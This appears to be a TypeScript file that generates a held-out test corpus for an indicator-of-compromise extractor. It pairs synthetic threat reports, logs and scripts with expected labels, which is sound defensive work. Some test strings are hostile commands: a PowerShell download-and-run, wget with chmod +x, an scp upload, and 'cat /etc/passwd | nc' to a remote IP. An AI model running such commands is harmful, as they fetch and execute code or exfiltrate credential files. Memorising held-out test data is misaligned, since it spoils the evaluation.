import { seededRandom, wholeBelow } from '@pivotkit/core';
import { sha256 } from '@noble/hashes/sha2.js';
import { createBase58check } from '@scure/base';
import type { LabelledText } from './corpus.ts';

// Labelled before anything was searched for in them, and not used for mending: see the plugin's README.

const random = seededRandom(77_310_402);
const below = (limit: number): number => wholeBelow(random, limit);
const between = (least: number, most: number): number => least + below(most - least + 1);
const one = <T>(...list: readonly [T, ...T[]]): T => list[below(list.length)] ?? list[0];
const of = (alphabet: string, length: number): string =>
  Array.from({ length }, () => alphabet.charAt(below(alphabet.length))).join('');
const hex = (length: number): string => `${of('89abcdef', 1)}${of('0123456789abcdef', length - 2)}7`;

const syllable = (): string =>
  one('ka', 'ro', 'mi', 'ten', 'sol', 'ver', 'dan', 'lux', 'pra', 'gon', 'bel', 'fi', 'zor');
const word = (): string => syllable() + syllable() + one('', syllable());
const ipv4 = (): string =>
  `${one(5, 23, 45, 91, 104, 185, 193, 203)}.${between(1, 254)}.${between(0, 255)}.${between(1, 254)}`;
const lan = (): string =>
  one(`10.${below(256)}.${below(256)}.${between(1, 254)}`, `192.168.${below(256)}.${between(1, 254)}`);
const ending = (): string => one('com', 'net', 'org', 'ru', 'cn', 'top', 'info', 'co.jp', 'com.br', 'biz', 'io');
const domain = (): string => `${one('', 'cdn.', 'login.', 'update-', 'ns1.')}${word()}.${ending()}`;
const file = (): string => `${word()}.${one('exe', 'dll', 'vbs', 'bat', 'scr')}`;
const page = (): string => one('', '/', `/${word()}`, `/${word()}/gate.php?id=${below(9_999)}`, `/a/${word()}.js#top`);
const url = (): string => `${one('http', 'https')}://${domain()}${one('', ':8443', '')}${page()}`;
const mail = (): string => `${word()}${one('.', '_', '')}${word()}@${domain()}`;
const ipv6 = (): string =>
  one(
    `2a01:${of('123456789', 3)}:${of('abcdef', 2)}${below(10)}::${of('123456789abcdef', 2)}`,
    Array.from({ length: 8 }, () => of('123456789abcdef', 4)).join(':'),
    `2606:4700::${of('123456789', 4)}:${of('123456789abcdef', 4)}`,
  );
const time = (): string =>
  `2026-${one('01', '07', '11')}-${between(10, 28)}T${between(10, 23)}:${between(10, 59)}:${between(10, 59)}Z`;
const cve = (): string => `CVE-20${between(12, 26)}-${between(1_000, 59_999)}`;
const technique = (): string => `T1${between(100, 599)}${one('', `.00${between(1, 9)}`)}`;
const wallet = (): string =>
  createBase58check(sha256).encode(Uint8Array.from({ length: 21 }, (_, i) => (i === 0 ? 0 : below(256))));
const mac = (): string => Array.from({ length: 6 }, () => of('0123456789ABCDEF', 2)).join(one(':', '-'));
const windowsPath = (): string => ['C:', one('Windows', 'ProgramData', 'Temp'), word(), file()].join('\\');
const linuxPath = (): string => `/${one('opt', 'tmp', 'etc', 'var')}/${word()}/${word()}${one('', '.conf', '.log')}`;
const bracketed = (text: string): string => text.replaceAll('.', '[.]');

type Labels = readonly string[];
type Made = readonly [text: string, ...expected: string[]];

/** Texts as people and programs write them, with what an analyst would take from them. */
const templates: readonly (() => Made)[] = [
  // Reports.
  () => {
    const [host, address] = [domain(), ipv4()];
    return [
      `The implant beacons to ${bracketed(host)} (${bracketed(address)}) every 60 seconds over port 443.`,
      `dns ${host}`,
      `ipv4 ${address}`,
    ];
  },
  () => {
    const [hash, link] = [hex(32), url()];
    return [
      `Sample ${hash}, first seen on 12 March 2024, downloads its second stage from ${link.replace('http', 'hxxp')}.`,
      `md5_hash ${hash}`,
      `url ${link.replace(/\.$/, '')}`,
    ];
  },
  () => {
    const [first, second] = [cve(), cve()];
    return first === second
      ? [`Actively exploited: ${first}!`, `cve ${first}`]
      : [`The vendor patched ${first} and ${second} in version 7.2.1.`, `cve ${first}`, `cve ${second}`];
  },
  () => {
    const id = technique();
    return [
      `This maps to ${id} (tactic TA0002) as used by G0032 with S0154.`,
      `attack_technique ${id}`,
      'attack_tactic TA0002',
      'attack_group G0032',
      'attack_software S0154',
    ];
  },
  () => {
    const number = between(1_000, 64_000);
    return [`Hosting: AS${number}, Netherlands; abuse contact unresponsive`, `asn AS${number}`];
  },
  () => {
    const [address, contact] = [wallet(), mail()];
    return [
      `All your files are encrypted. Send 0.25 BTC to ${address} and write to ${contact}!`,
      `bitcoin_address ${address}`,
      `email ${contact}`,
    ];
  },
  () => {
    const hash = hex(64);
    return [`IOCs\n----\n* ${hash}  (loader)\n* ${hash}  (loader, again)`, `sha256_hash ${hash}`];
  },
  () => {
    const hash = hex(40).toUpperCase();
    return [`SHA1: ${hash}; size: 1,048,576 bytes; PE32`, `sha1_hash ${hash}`];
  },
  () => {
    const hash = hex(128);
    return [`sha512sum says ${hash}  setup.exe`, `sha512_hash ${hash}`];
  },
  () => {
    const account = `0x${hex(40)}`;
    return [`Stolen funds were swept to ${account}, then bridged.`, `ethereum_address ${account}`];
  },
  () => {
    const fuzzy = `${one(96, 192, 384)}:${of('ABCDEFGHIJKLMNopqrstuvwx+/0123456789', 30)}x:${of('ABCDEFGHIJKLMNopqrstuvwx', 18)}`;
    return [`ssdeep ${fuzzy}`, `ssdeep_hash ${fuzzy}`];
  },
  // Log lines.
  () => {
    const address = ipv4();
    return [
      `Nov 28 12:00:01 gw01 sshd[2211]: Failed password for invalid user admin from ${address} port 51122 ssh2`,
      `ipv4 ${address}`,
    ];
  },
  () => {
    const [address, link] = [ipv4(), url()];
    return [
      `${address} - - [10/Oct/2025:13:55:36 +0000] "GET /index.php HTTP/1.1" 404 209 "${link}" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.109 Safari/537.36"`,
      `ipv4 ${address}`,
      `url ${link}`,
    ];
  },
  () => {
    const [host, address] = [domain(), lan()];
    return [`Nov 28 09:12:44 dnsmasq[811]: query[A] ${host} from ${address}`, `dns ${host}`, `ipv4 ${address}`];
  },
  () => {
    const [source, target] = [lan(), ipv4()];
    return [
      `action=deny src=${source} dst=${target} spt=${between(1_025, 65_000)} dpt=445 proto=tcp`,
      `ipv4 ${source}`,
      `ipv4 ${target}`,
    ];
  },
  () => {
    const [source, target] = [lan(), ipv4()];
    return [
      `  TCP    ${source}:49712      ${target}:443      ESTABLISHED     4312`,
      `ipv4 ${source}`,
      `ipv4 ${target}`,
    ];
  },
  () => {
    const [source, host] = [lan(), domain()];
    return [
      `1764331200.125\tC8Tg4w2kX\t${source}\t53211\t53\tudp\t${host}\t1\tC_INTERNET`,
      `ipv4 ${source}`,
      `dns ${host}`,
    ];
  },
  () => {
    const [address, card] = [lan(), mac()];
    return [`DHCPACK on ${address} to ${card} (laptop7) via eth0`, `ipv4 ${address}`, `mac_address ${card}`];
  },
  () => {
    const address = ipv6();
    return [`Accepted publickey for root from ${address} port 40022 ssh2`, `ipv6 ${address}`];
  },
  () => {
    const address = ipv6();
    return [`listening on [${address}]:8443, backlog 128`, `ipv6 ${address}`];
  },
  () => {
    const address = ipv6();
    return [`inet6 ${address}/64 scope global dynamic`, `ipv6 ${address}`];
  },
  () => {
    const [host, address] = [domain(), ipv4()];
    return [`${time()} WARN proxy: CONNECT ${host}:443 via ${address} took 1.25s`, `dns ${host}`, `ipv4 ${address}`];
  },
  () => {
    const [path, address] = [linuxPath(), ipv4()];
    return [
      `type=EXECVE msg=audit(1764331200.123:4455): argc=3 a0="${path}" a1="-h" a2="${address}"`,
      `linux_path ${path}`,
      `ipv4 ${address}`,
    ];
  },
  () => {
    const path = windowsPath();
    return [`Process Create: Image: ${path} ProcessId: 4312 User: CORP\\anna`, `windows_path ${path}`];
  },
  // JSON, CSV, YAML.
  () => {
    const [hash, address] = [hex(64), ipv4()];
    return [
      `{"EventID":3,"Hashes":"SHA256=${hash}","DestinationIp":"${address}","Initiated":true}`,
      `sha256_hash ${hash}`,
      `ipv4 ${address}`,
    ];
  },
  () => {
    const [link, account] = [url(), mail()];
    return [
      `{"url":"${link}","user":{"mail":"${account}","id":7},"tags":["a","b"]}`,
      `url ${link}`,
      `email ${account}`,
    ];
  },
  () => {
    const [address, host, hash] = [ipv4(), domain(), hex(40)];
    return [
      `${address},${host},${hash},${time()},"high, confirmed"`,
      `ipv4 ${address}`,
      `dns ${host}`,
      `sha1_hash ${hash}`,
    ];
  },
  () => [
    'tags:\n  - attack.execution\n  - attack.t1059.001\n  - attack.s0002\n',
    'attack_technique T1059.001',
    'attack_software S0002',
  ],
  () => {
    const address = ipv4();
    return [`hosts:\n  - ${address}\n  - localhost\nport: 8080`, `ipv4 ${address}`];
  },
  // Scripts and code.
  () => {
    const [link, path] = [url(), windowsPath()];
    return [
      `(New-Object Net.WebClient).DownloadFile('${link}','${path}'); Start-Process '${path}'`,
      `url ${link}`,
      `windows_path ${path}`,
    ];
  },
  () => {
    const [link, path] = [url(), linuxPath()];
    return [`wget -qO ${path} ${link} && chmod +x ${path}`, `url ${link}`, `linux_path ${path}`];
  },
  () => {
    const [address, host] = [ipv4(), domain()];
    return [`  connect_to("${address}", 8080);  // fallback: ${host}`, `ipv4 ${address}`, `dns ${host}`];
  },
  () => {
    const key = String.raw`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run` + one('', 'Once');
    return [`reg query "${key}" /v ${word()}`, `registry_key ${key}`];
  },
  () => {
    const key = String.raw`HKEY_CURRENT_USER\Environment` + `\\${word()}`;
    return [`Set value: TargetObject: ${key}; Details: DWORD (0x00000001)`, `registry_key ${key}`];
  },
  () => {
    const server = word();
    return [`net use Z: \\\\${server}\\backup$\\daily /persistent:no`, `windows_path \\\\${server}\\backup$\\daily`];
  },
  () => {
    const [host, account] = [domain(), word()];
    return [
      `scp ./${account}.tgz root@${host}:/srv/in/${account}.tgz`,
      `email root@${host}`,
      `linux_path ./${account}.tgz`,
      `linux_path /srv/in/${account}.tgz`,
    ];
  },
  () => {
    const link = url();
    return [`import requests; r = requests.get("${link}", timeout=5)`, `url ${link}`];
  },
  // HTML, Markdown, mail.
  () => {
    const [link, image] = [url(), url()];
    return [`<p>Your parcel: <a href="${link}">track it</a> <img src='${image}'/></p>`, `url ${link}`, `url ${image}`];
  },
  () => {
    const link = url();
    return [`See the [analysis](${link}) for details; archived copy below.`, `url ${link}`];
  },
  () => {
    const [name, address] = [domain(), ipv4()];
    return [
      `Received: from ${name} (unknown [${address}])\r\n\tby mx1 with ESMTPS id 4Xy7Zq1; Thu, 12 Mar 2026 10:11:12 +0100`,
      `dns ${name}`,
      `ipv4 ${address}`,
    ];
  },
  () => {
    const [sender, to] = [mail(), mail()];
    return [
      `From: "IT Support" <${sender}>\nTo: ${to}\nSubject: Re: invoice 2026-0042`,
      `email ${sender}`,
      `email ${to}`,
    ];
  },
  // Defanged in other ways.
  () => {
    const [host, name] = [domain(), word()];
    return [`C2: hxxps[://]${bracketed(host)}/${name}`, `url https://${host}/${name}`];
  },
  () => {
    const [user, host] = [word(), `${word()}.${one('com', 'net')}`];
    return [`Phish sender: ${user}[@]${bracketed(host)}`, `email ${user}@${host}`];
  },
  () => {
    const [first, last] = [`${one(5, 23, 91)}.${below(256)}.${below(256)}`, between(1, 254)];
    return [`- ${first}[.]${last} (AS unknown)`, `ipv4 ${first}.${last}`];
  },
  () => {
    const host = `${word()}.${one('com', 'ru', 'top')}`;
    return [`domains: ${host.replace('.', '(dot)')}, ${host.replace('.', '[.]')}`, `dns ${host}`];
  },
  () => {
    const host = domain();
    return [`block ${host.replaceAll('.', '{.}')} at the proxy`, `dns ${host}`];
  },
  () => {
    const [address, port] = [ipv4(), between(1_025, 65_000)];
    return [`hXXp://${bracketed(address)}:${port}/x`, `url http://${address}:${port}/x`];
  },
  // Other languages.
  () => {
    const host = domain();
    return [`Вредоносный домен ${host} обнаружен в журналах.`, `dns ${host}`];
  },
  () => {
    const [hash, address] = [hex(32), ipv4()];
    return [`恶意样本${hash}连接到${address}。请立即隔离主机。`, `md5_hash ${hash}`, `ipv4 ${address}`];
  },
  () => {
    const link = url();
    return [`Die Datei wurde über „${link}“ geladen – bitte prüfen.`, `url ${link}`];
  },
  () => {
    const host = domain();
    return [`通信先は「${host}」でした`, `dns ${host}`];
  },
  () => {
    const account = mail();
    return [`Kontakt: ${account}, Größe: 3,5 MB`, `email ${account}`];
  },
];

/** Texts with nothing in them, some of which look as if. */
const empty: readonly (() => string)[] = [
  () => `npm install left-pad@${below(9)}.${below(20)}.${below(9)} --save`,
  () => `Python 3.${between(8, 14)}.${below(12)} on linux, GCC ${between(9, 14)}.2.0`,
  () => `ldd: libssl.so.1.1 => not found; libz.so.1.2.${between(8, 13)}`,
  () => `java.lang.NullPointerException at ${word()}.core.Main.run(Main.java:${between(10, 400)})`,
  () =>
    `${of('0123456789abcdef', 8)}-${of('0123456789abcdef', 4)}-4${of('0123456789abcdef', 3)}-b${of('0123456789abcdef', 3)}-${of('0123456789abcdef', 12)}`,
  () => `index ${of('0123456789abcdef', 7)}..${of('0123456789abcdef', 7)} 100644`,
  () => `commit ${hex(40)}\nAuthor: nobody`,
  () => `[${between(10, 23)}:${between(10, 59)}:${between(10, 59)}.${between(100, 999)}] worker ${below(9)} idle`,
  () => `am ${between(10, 28)}.${between(10, 12)}.2026 um ${between(10, 23)}:${between(10, 59)} Uhr`,
  () => `Total: ${between(1, 9)}.${between(100, 999)}.${between(100, 999)},${between(10, 99)} EUR`,
  () => `see section ${between(1, 9)}.${between(1, 9)}.${between(1, 9)}.${between(1, 9)} of the manual`,
  () => `${word()}.docx, ${word()}.final.pdf and ${word()}.tar.gz were opened`,
  () => `fn main() in ${word()}.rs; use std::io::Read;`,
  () => `perl ${word()}.pl --all < ${word()}.txt`,
  () => `const ${word()} = ${word()}.${one('name', 'map', 'length', 'value', 'style', 'data')};`,
  () => `${word()}.forEach((x) => console.log(x.${one('id', 'name', 'type')}))`,
  () => `System.Collections.Generic.List\`1[System.String]`,
  () => `OID 1.3.6.1.4.1.${between(300, 9_000)}.${between(1, 9)} (enterprise)`,
  () => `Windows 10.0.${between(17_763, 22_631)}.${between(300, 4_000)} build lab`,
  () => `S-1-5-21-${between(1e8, 2e9)}-${between(1e8, 2e9)}-${between(1e8, 2e9)}-500`,
  () => `ratio 16:9, 10:1; std::map<K, V>; a::before { color: #${of('0123456789abcdef', 6)} }`,
  () => `Content-Type: application/vnd.ms-excel; charset=utf-8`,
  () => `Dr. ${word()}, Ph.D., lives in the U.S. and works e.g. at night.It is late.`,
  () => `import {x} from '@${word()}/core'; // follow @${word()}`,
  () => `payload = "${of('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 60)}=="`,
  () => `mov eax, 0x${of('0123456789abcdef', 8)}; jmp 0x${of('0123456789abcdef', 6)}`,
  () => `T-shirt S, M, L; room G${between(10, 99)}; flight LH${between(100, 999)}; A4, B12; S3 bucket`,
  () => `user@${word()} ~ $ ls -la; cd ..`,
  () => `trace_id=${of('0123456789abcdef', 16)} span_id=${of('0123456789abcdef', 8)} sampled=1`,
  () => `progress: 3/10, 50 %, ETA 00:0${below(9)}:${between(10, 59)}`,
];

/** By hand. */
const byHand: readonly (readonly [text: string, expected: Labels])[] = [
  ['Traffic to 198.51.100.23/24 was dropped.', ['ipv4 198.51.100.23']],
  ['nslookup evil.example.co.uk 9.9.9.9', ['dns evil.example.co.uk', 'ipv4 9.9.9.9']],
  ['IP=8.8.4.4;MASK=255.255.255.0', ['ipv4 8.8.4.4', 'ipv4 255.255.255.0']],
  ['ip:1.1.1.1', ['ipv4 1.1.1.1']],
  ['http://user:secret@portal.zormi.net/login', ['url http://user:secret@portal.zormi.net/login']],
  ['Visit www.belgon.org/path?x=1 today', ['dns www.belgon.org']],
  ['(https://verten.net/a_(b))', ['url https://verten.net/a_(b)']],
  ['https://verten.net/?q=a,b;c', ['url https://verten.net/?q=a,b;c']],
  ['"https://verten.net/x","https://verten.net/y"', ['url https://verten.net/x', 'url https://verten.net/y']],
  ['curl -H "Host: pramila.io" http://104.16.1.1/', ['dns pramila.io', 'url http://104.16.1.1/']],
  ['ftp://files.rokami.org/pub/x.iso', ['url ftp://files.rokami.org/pub/x.iso']],
  ['tcp://203.0.113.9:4444', ['url tcp://203.0.113.9:4444']],
  ['mailto:help@solver.com?subject=hi', ['email help@solver.com']],
  ['help@solver.com.', ['email help@solver.com']],
  ["o'brien@belfi.org", ["email o'brien@belfi.org"]],
  ['Contact: sales (at) gonlux (dot) com', ['email sales@gonlux.com']],
  ['bad dot com', []],
  ['xn--80ak6aa92e.com is a homograph', ['dns xn--80ak6aa92e.com']],
  ['münchen.de', ['dns münchen.de']],
  ['_dmarc.kamiro.com TXT', ['dns _dmarc.kamiro.com']],
  ['abcdefghijklmnop.onion', ['dns abcdefghijklmnop.onion']],
  ['fe80::5efe:10.1.2.3%12', ['ipv6 fe80::5efe:10.1.2.3%12']],
  ['::ffff:203.0.113.77', ['ipv4 203.0.113.77']],
  ['ping6 ff02::1', ['ipv6 ff02::1']],
  ['10:45:12 to 11:45:12', []],
  ['aa:bb:cc', []],
  ['MAC 0050.56c0.0008 seen', ['mac_address 0050.56c0.0008']],
  ['cve-2017-0144 (EternalBlue)', ['cve CVE-2017-0144']],
  ['CVE_2017_0144', []],
  ['T1055.012/T1106', ['attack_technique T1055.012', 'attack_technique T1106']],
  ['https://attack.mitre.org/techniques/T1055/012/', ['url https://attack.mitre.org/techniques/T1055/012/']],
  ['ASN: 13335', ['asn AS13335']],
  ['AS13335-NET', ['asn AS13335']],
  ['as expected, AS is', []],
  ['C:\\Users\\Public\\a.ps1 -Force', ['windows_path C:\\Users\\Public\\a.ps1']],
  ['"C:\\Program Files (x86)\\Lux\\lux.exe" /s', ['windows_path C:\\Program Files (x86)\\Lux\\lux.exe']],
  ['%APPDATA%\\Lux\\lux.dat', ['windows_path %APPDATA%\\Lux\\lux.dat']],
  ['c:/temp/x.bat', ['windows_path c:/temp/x.bat']],
  ['cat /etc/passwd | nc 203.0.113.5 9001', ['linux_path /etc/passwd', 'ipv4 203.0.113.5']],
  ['file:/etc/hosts', ['linux_path /etc/hosts']],
  ['cd ~/.ssh && ls', ['linux_path ~/.ssh']],
  ['HKU\\.DEFAULT\\Software\\Lux', ['registry_key HKU\\.DEFAULT\\Software\\Lux']],
  ['HKCU:\\Software\\Lux\\Run', ['registry_key HKCU:\\Software\\Lux\\Run']],
  ['MD5(x)= 9e107d9d372bb6826bd81d3542a419d6', ['md5_hash 9e107d9d372bb6826bd81d3542a419d6']],
  ['9E107D9D372BB6826BD81D3542A419D6:NTLM', ['md5_hash 9E107D9D372BB6826BD81D3542A419D6']],
  ['ETag: "9e107d9d372bb6826bd81d3542a419d6-3"', ['md5_hash 9e107d9d372bb6826bd81d3542a419d6']],
  ['00000000000000000000000000000001', []],
  ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', ['bitcoin_address bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq']],
  ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', []],
  ['hxxp:\\\\rokafi.com\\x', ['url http://rokafi.com/x']],
  ['hxxp://rokafi.com[/]x', ['url http://rokafi.com/x']],
  ['http[:]//rokafi[.]com', ['url http://rokafi.com']],
  ['rokafi[.]com[.]br', ['dns rokafi.com.br']],
  ['rokafi[dot]com', ['dns rokafi.com']],
  ['203.0.113[.]7', ['ipv4 203.0.113.7']],
  ['203,0,113,7', []],
  ['2001[:]db8[:]85a3[:][:]7334', ['ipv6 2001:db8:85a3::7334']],
  ['docker pull ghcr.io/kami/app:1.2.3', ['dns ghcr.io']],
  ['git clone git@gitlab.solten.org:team/repo.git', ['email git@gitlab.solten.org']],
  ['app.kubernetes.io/name: web', []],
  ['com.android.vending', []],
  ['window.location.href = x', []],
  ['os.path.join(a, b)', []],
  ['np.array([1.0, 2.0])', []],
  ['Math.max(a.x, b.y)', []],
  ['foo.bar()', []],
  ['$host.ui.RawUI.WindowTitle', []],
  ['[System.Net.Dns]::GetHostAddresses("rokafi.com")', ['dns rokafi.com']],
  ['Get-ADUser -Server dc01.corp.local', []],
  ['robots.txt, sitemap.xml, favicon.ico, index.html', []],
  ['main.go main.c lib.so build.sh', []],
  ['Version 4.18.0.372 / 10.0.0.1-beta', []],
  ['release 2.4.6.8', []],
  ['Firefox/115.0 Gecko/20100101', []],
  ['1.2.3', []],
  ['256.300.1.2', []],
  ['0.0.0.0:* LISTEN', ['ipv4 0.0.0.0']],
  ['127.0.0.1 localhost', ['ipv4 127.0.0.1']],
  ['10.0.0.1,10.0.0.2|10.0.0.3', ['ipv4 10.0.0.1', 'ipv4 10.0.0.2', 'ipv4 10.0.0.3']],
  ['<10.9.8.7>', ['ipv4 10.9.8.7']],
  ['host=rokafi.com;path=/a/b', ['dns rokafi.com', 'linux_path /a/b']],
  ['X-Forwarded-For: 5.6.7.8, 10.0.0.9', ['ipv4 5.6.7.8', 'ipv4 10.0.0.9']],
  ['Set-Cookie: sid=1; Domain=.rokafi.com; Path=/', ['dns rokafi.com']],
  ['*.rokafi.com', ['dns rokafi.com']],
  ['rokafi.com/evil.exe', ['dns rokafi.com']],
  ['Rokafi.COM', ['dns Rokafi.COM']],
  ['the end.But', []],
  ['and so on...com', []],
  ['5.5.5.5.5', []],
  ['', []],
];

const made = (): LabelledText[] =>
  Array.from({ length: 22 * templates.length }, (_, i) => {
    const [text, ...expected] = templates[i % templates.length]?.() ?? [''];
    return { text, expected: [...new Set(expected)] };
  });

const nothing = (): LabelledText[] =>
  Array.from({ length: 12 * empty.length }, (_, i) => ({ text: empty[i % empty.length]?.() ?? '', expected: [] }));

/** The same texts each time. */
export const heldOut: readonly LabelledText[] = [
  ...made(),
  ...nothing(),
  ...byHand.map(([text, expected]) => ({ text, expected })),
];
